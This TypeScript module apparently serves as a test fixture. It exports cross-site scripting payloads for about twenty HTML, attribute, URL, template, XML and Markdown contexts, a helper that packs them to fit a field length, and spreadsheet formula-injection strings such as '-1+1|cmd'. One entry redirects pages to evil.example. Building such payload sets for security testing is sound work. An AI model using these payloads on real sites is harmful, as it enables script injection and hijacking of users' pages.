/** Texts that become something else wherever they are not written as text, by where that would be. */

export const PAYLOADS: Readonly<Record<string, string>> = {
  element: '<img src=x onerror=xss(1)>',
  script: '<script>xss(2)</script>',
  short: '<svg/onload=xss(3)>',
  frame: '<iframe srcdoc="<script>parent.xss(4)</script>"></iframe>',
  opening: '<details open ontoggle=xss(5)>',
  'attribute in double quotes': '" onmouseover="xss(6)" autofocus onfocus="xss(6)" x="',
  'attribute in single quotes': "' onfocus='xss(7)' autofocus x='",
  'attribute without quotes': ' onpointerenter=xss(8) x=',
  address: 'javascript:xss(9)//https://',
  'address of data': 'data:text/html,<script>parent.xss(10)</script>',
  'end of a script': '</script><script>xss(11)</script>',
  'end of a title': '</title></textarea></noscript><script>xss(12)</script>',
  'text of a script': '";xss(13);//\\";xss(13)//',
  template: '${xss(14)}{{constructor.constructor("xss(14)")()}}<%= xss(14) %>',
  style: '</style><style>*{background:url(/xss-15)}</style>',
  'XML data': ']]><xss xmlns="urn:x"/><![CDATA[',
  entity: '&xss;&lt;script&gt;xss(16)&lt;/script&gt;&#60;b&#62;',
  'XML instruction': '<?xml-stylesheet href="javascript:xss(17)"?>',
  'comment of HTML': '--><script>xss(18)</script><!--',
  drawing: '<svg><animate onbegin=xss(19) attributeName=x></svg>',
  Markdown: '[x](javascript:xss(20)) ![x](x"onerror="xss(20))',
  'a wrong base': '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
}

/** All of them in one, 1 KB: what a field may hold that takes prose. */
export const WHOLE = Object.values(PAYLOADS).join(' ')

/** The longest that fits. @param most - characters */
export const payloadOf = (most: number): string | undefined => {
  if (WHOLE.length <= most) return WHOLE
  let [text, fits] = ['', false]
  for (const payload of [PAYLOADS['short'], ...Object.values(PAYLOADS)])
    if (payload !== undefined && text.length + payload.length + 1 <= most) [text, fits] = [`${text} ${payload}`, true]
  return fits ? text.trim() : undefined
}

/** What a spreadsheet would run. */
export const FORMULAS = ['=1+1', '+1+1', '-1+1|cmd', '@SUM(1)', '\t=1+1', '＝1+1', '＋1', '－1+cmd', '＠SUM(1)']
